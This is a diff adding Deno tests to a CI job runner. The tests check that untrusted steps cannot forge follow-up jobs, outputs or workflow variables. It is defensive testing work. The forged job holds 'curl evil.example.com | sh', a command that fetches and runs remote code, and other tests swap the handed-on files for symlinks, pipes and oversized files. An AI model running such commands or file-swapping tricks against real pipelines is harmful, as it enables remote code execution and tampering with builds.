@@ -131,3 +131,107 @@ Deno.test("untrusted steps cannot find or change files of concurrent trusted ste
   assertStringIncludes(test.stdout(), "| deployed\n");
   assert(!/evil|found/.test(test.stdout()), test.stdout());
 });
+
+/** Follow-up jobs as a step could write them. */
+const FORGED = JSON.stringify({
+  type: "trigger_job",
+  operation_id: "1",
+  trigger_type: "runnerlib",
+  jobs: [{ job_name: "evil", job_command: "curl evil.example.com | sh" }],
+});
+
+const GENUINE = FORGED.replaceAll("evil", "good");
+
+for (
+  const [what, script] of [
+    [
+      "files",
+      `echo '${FORGED}' > "$TRIGGERS"; echo '{"to":"evil"}' > "$OUTPUT"`,
+    ],
+    ["no files", `rm "$TRIGGERS" "$OUTPUT"`],
+    [
+      "empty directories",
+      `rm "$TRIGGERS" "$OUTPUT"; mkdir "$TRIGGERS" "$OUTPUT"`,
+    ],
+    ["pipes", `rm "$TRIGGERS" "$OUTPUT"; mkfifo "$TRIGGERS" "$OUTPUT"`],
+    [
+      "links",
+      `for file in "$TRIGGERS" "$OUTPUT"; do
+      echo '${FORGED}' > "$file.evil"; ln -sf "$file.evil" "$file"; done`,
+    ],
+    [
+      "a link to a directory",
+      `directory="$(dirname "$TRIGGERS")"
+      mv "$directory" evil; ln -s "$PWD/evil" "$directory"
+      echo '${FORGED}' > "$TRIGGERS"; echo '{"to":"evil"}' > "$OUTPUT"`,
+    ],
+    ["files that cannot be read", `chmod 000 "$TRIGGERS" "$OUTPUT"`],
+    [
+      "files of more than 8 MiB",
+      `for file in "$TRIGGERS" "$OUTPUT"; do
+      head -c 9000000 /dev/zero > "$file"; done`,
+    ],
+  ] as const
+) {
+  Deno.test(`follow-up jobs and outputs that an untrusted step replaces with ${what} are restored`, async () => {
+    await using test = await testRunner();
+    const base = `${test.path}/job`;
+    const handedOn = {
+      TRIGGERS: `${base}/handed-on/triggers.json`,
+      OUTPUT: `${base}/workflow-output.json`,
+    };
+    const write = `mkdir -p "$(dirname "$TRIGGERS")"
+      echo '${GENUINE}' > "$TRIGGERS"; echo '{"to":"good"}' > "$OUTPUT"`;
+    const result = await test.runner.runJob(
+      new Job("x")
+        .addStep("good", write, { env: handedOn })
+        .addStep("evil", `set +e; ${script}; exit 1`, {
+          untrusted: true,
+          continueOnError: true,
+          env: handedOn,
+          dependsOn: ["good"],
+        })
+        .addStep("use", 'grep good "$TRIGGERS" && grep good "$OUTPUT"', {
+          env: handedOn,
+          dependsOn: ["evil"],
+        }),
+      { triggers: { file: "/job/handed-on/triggers.json" } },
+    );
+    assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
+    assertStringIncludes(test.stderr(), 'while untrusted step "evil" ran');
+    assertEquals(await Deno.readTextFile(handedOn.TRIGGERS), `${GENUINE}\n`);
+    assertEquals(await Deno.readTextFile(handedOn.OUTPUT), '{"to":"good"}\n');
+  });
+}
+
+Deno.test("no worker gets follow-up jobs, outputs or variables from untrusted steps", async () => {
+  await using test = await testRunner({ REACTORCIDE_TRIGGER_NONCE: "n0nc3" });
+  const base = `${test.path}/job`;
+  await Deno.mkdir(base);
+  await Deno.writeTextFile(`${base}/workflow-vars.json`, '{"to":"good"}');
+  const forge = `cd '${base}'; echo '${FORGED}' > triggers.json
+    for file in workflow-output.json workflow-vars.json; do
+      echo '{"to":"evil"}' > $file; done`;
+  const result = await test.runner.runJob(
+    new Job("x")
+      .addStep("first", `${forge}; sleep 0.2`, { untrusted: true })
+      .addStep("second", `sleep 0.1; ${forge}`, { untrusted: true })
+      .addStep("use", `cat '${base}/workflow-vars.json'`, {
+        dependsOn: ["first", "second"],
+      }),
+    { triggers: { transport: "stdout" } },
+  );
+  assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
+  assertStringIncludes(test.stdout(), '{"to":"good"}');
+  assertEquals(test.stdout().includes("n0nc3"), false, test.stdout());
+  assertStringIncludes(test.stderr(), 'untrusted steps "first", "second" ran');
+  const names = (await Array.fromAsync(Deno.readDir(base))).map(({ name }) =>
+    name
+  );
+  assertEquals(
+    ["triggers.json", "workflow-output.json"].filter((name) =>
+      names.includes(name)
+    ),
+    [],
+  );
+});
